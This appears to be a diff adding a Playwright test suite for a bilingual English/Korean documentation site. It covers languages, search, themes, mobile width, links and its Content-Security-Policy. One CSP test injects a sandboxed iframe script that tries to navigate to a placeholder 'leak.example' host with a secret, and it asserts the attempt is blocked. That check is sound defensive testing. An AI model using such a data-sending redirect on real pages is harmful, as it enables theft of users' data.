@@ -1,0 +1,203 @@
+/** The site as a reader gets it: every page, both languages, search, themes, narrow screens. */
+import { expect, test, type Page } from '@playwright/test';
+import { pagePaths } from './sitemap.ts';
+
+test('every page says what it is and where its twin is', async ({ page, request, baseURL }) => {
+  for (const path of await pagePaths(request)) {
+    await test.step(path, async () => {
+      const lang = path.startsWith('/ko/') ? 'ko' : 'en';
+      await page.goto(path);
+      await expect(page.locator('html')).toHaveAttribute('lang', lang);
+      await expect(page).toHaveTitle(/\S+ \| In Step$/);
+      await expect(page.locator('h1')).toHaveCount(1);
+      expect(await content(page, 'meta[name="description"]')).toMatch(/\S{2,}/);
+      expect(await content(page, 'meta[http-equiv="Content-Security-Policy"]')).toMatch(
+        /frame-src 'self' blob:/,
+      );
+      const twins = page.locator('link[rel="alternate"][hreflang]');
+      const languages = await twins.evaluateAll((links) => links.map((link) => link.hreflang));
+      expect(languages.sort()).toEqual(expect.arrayContaining(['en', 'ko']));
+      for (const href of await twins.evaluateAll((links) => links.map((link) => link.href))) {
+        const answer = await request.get(new URL(new URL(href).pathname, baseURL).href);
+        expect(answer.status(), `${path} names ${href} as its twin`).toBe(200);
+      }
+    });
+  }
+});
+
+test('the language switch stays on the page', async ({ page, request }) => {
+  for (const path of (await pagePaths(request)).filter((path) => !path.startsWith('/ko/'))) {
+    await page.goto(path);
+    await page.getByRole('link', { name: '한국어' }).click();
+    await expect(page).toHaveURL(new RegExp(`/ko${path}$`));
+    await page.getByRole('link', { name: 'English' }).click();
+    await expect(page).toHaveURL(new RegExp(`[0-9]${path}$`));
+  }
+});
+
+test('the home page has a sandbox to run and every chapter', async ({ page }) => {
+  for (const [home, run] of [
+    ['/', 'Run'],
+    ['/ko/', '실행'],
+  ] as const) {
+    await page.goto(home);
+    const sandbox = page.locator('node-sandbox[name="blocking-call"]');
+    await expect(sandbox.getByRole('button', { name: run, exact: true })).toBeInViewport();
+    const chapters = page.locator('main ol a');
+    expect(await chapters.count()).toBeGreaterThan(0);
+    await chapters.first().click();
+    await expect(page.locator('h1')).toBeVisible();
+    await expect(page.locator('.sidebar-content [aria-current="page"]')).toHaveCount(1);
+  }
+});
+
+test('no page is wider than a phone of 360 px', async ({ page, request }) => {
+  await page.setViewportSize({ width: 360, height: 740 });
+  for (const path of await pagePaths(request)) {
+    await page.goto(path);
+    const excess = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
+    expect(excess, `${path} is ${excess} px too wide`).toBeLessThanOrEqual(0);
+  }
+});
+
+test('no page asks anything of another origin or reports an error', async ({
+  page,
+  request,
+  baseURL,
+}) => {
+  const complaints: string[] = [];
+  page.on('console', (message) => {
+    if (message.type() === 'error') complaints.push(`${page.url()}: ${message.text()}`);
+  });
+  page.on('pageerror', (error) => complaints.push(`${page.url()}: ${error.message}`));
+  page.on('request', (asked) => {
+    const url = new URL(asked.url());
+    if (url.protocol.startsWith('http') && url.origin !== new URL(baseURL!).origin) {
+      complaints.push(`${page.url()} asks ${url.href}`);
+    }
+  });
+  for (const path of await pagePaths(request)) {
+    await page.goto(path, { waitUntil: 'networkidle' });
+  }
+  expect(complaints).toEqual([]);
+});
+
+test('links inside the site lead somewhere', async ({ page, request, baseURL }) => {
+  const links = new Set<string>();
+  for (const path of await pagePaths(request)) {
+    await page.goto(path);
+    const found = await page.locator('a[href]').evaluateAll((all) => all.map((link) => link.href));
+    for (const href of found) if (href.startsWith(baseURL!)) links.add(href);
+  }
+  for (const href of links) {
+    const { hash, origin, pathname } = new URL(href);
+    const answer = await request.get(origin + pathname);
+    expect(answer.status(), href).toBe(200);
+    if (hash)
+      expect(await answer.text(), href).toContain(`id="${decodeURIComponent(hash.slice(1))}"`);
+  }
+});
+
+test('search finds words in both languages', async ({ page }) => {
+  for (const [home, button, word] of [
+    ['/', 'Search', 'caller'],
+    ['/ko/', '검색', '호출자'],
+  ] as const) {
+    await page.goto(home);
+    await page.getByRole('button', { name: button, exact: true }).click();
+    await page.getByRole('dialog').getByRole('textbox').fill(word);
+    await expect(page.locator('.pagefind-ui__result').first()).toContainText(word);
+  }
+});
+
+test('the theme is the system’s until the reader chooses, and the choice stays', async ({
+  page,
+}) => {
+  await page.emulateMedia({ colorScheme: 'dark' });
+  await page.goto('/');
+  const dark = await paper(page);
+  await page.emulateMedia({ colorScheme: 'light' });
+  await expect.poll(() => paper(page)).not.toBe(dark);
+  await page.locator('starlight-theme-select select').selectOption('dark');
+  await expect.poll(() => paper(page)).toBe(dark);
+  await page.reload();
+  expect(await paper(page)).toBe(dark);
+});
+
+test('without JavaScript a page is whole and follows the system’s theme', async ({ browser }) => {
+  const papers = [];
+  for (const colorScheme of ['light', 'dark'] as const) {
+    const context = await browser.newContext({ javaScriptEnabled: false, colorScheme });
+    const page = await context.newPage();
+    await page.goto('/');
+    await expect(page.locator('node-sandbox[name="blocking-call"] pre').first()).toBeVisible();
+    await expect(page.locator('site-search button[data-open-modal]')).toBeHidden();
+    // Scripts of the page are off; the probe's own evaluation still works.
+    papers.push(await paper(page));
+    await context.close();
+  }
+  expect(papers[0]).not.toBe(papers[1]);
+});
+
+test('an unknown address is answered with 404 and a way back', async ({ page }) => {
+  const answer = await page.goto('/no-such-page/');
+  expect(answer?.status()).toBe(404);
+  await expect(page.locator('h1')).toHaveText('There is no page here');
+});
+
+test('Korean faces are fetched by Korean pages only', async ({ page }) => {
+  const faces: string[] = [];
+  page.on('request', (asked) => {
+    if (asked.resourceType() === 'font') faces.push(asked.url());
+  });
+  await page.goto('/', { waitUntil: 'networkidle' });
+  expect(faces.filter((url) => url.includes('sans-kr'))).toEqual([]);
+  await page.goto('/ko/', { waitUntil: 'networkidle' });
+  expect(faces.filter((url) => url.includes('sans-kr')).length).toBeGreaterThan(0);
+});
+
+test('a frame may hold the page’s own documents and nothing foreign', async ({ page }) => {
+  await page.goto('/');
+  const foreign = await page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) =>
+          resolve(event.violatedDirective),
+        );
+        const frame = document.createElement('iframe');
+        frame.src = 'https://elsewhere.example/';
+        document.body.append(frame);
+      }),
+  );
+  expect(foreign).toBe('frame-src');
+
+  // A sandboxed srcdoc frame runs; when it tries to leave for another site, it is held back.
+  const news = await page.evaluate(async () => {
+    const runs = new Promise((resolve) => {
+      addEventListener('message', (event) => resolve(event.data));
+    });
+    const heldBack = new Promise((resolve) => {
+      document.addEventListener('securitypolicyviolation', (event) => {
+        if (event.blockedURI.includes('leak.example')) resolve(event.violatedDirective);
+      });
+    });
+    const frame = document.createElement('iframe');
+    frame.setAttribute('sandbox', 'allow-scripts');
+    frame.srcdoc = `<script>
+      parent.postMessage('runs', '*');
+      location.href = 'https://leak.example/?secret';
+    </script>`;
+    document.body.append(frame);
+    return Promise.all([runs, heldBack]);
+  });
+  expect(news).toEqual(['runs', 'frame-src']);
+});
+
+function content(page: Page, selector: string): Promise<string | null> {
+  return page.locator(selector).getAttribute('content');
+}
+
+/** The colour that the page is drawn on. */
+function paper(page: Page): Promise<string> {
+  return page.evaluate(() => getComputedStyle(document.body).backgroundColor);
+}
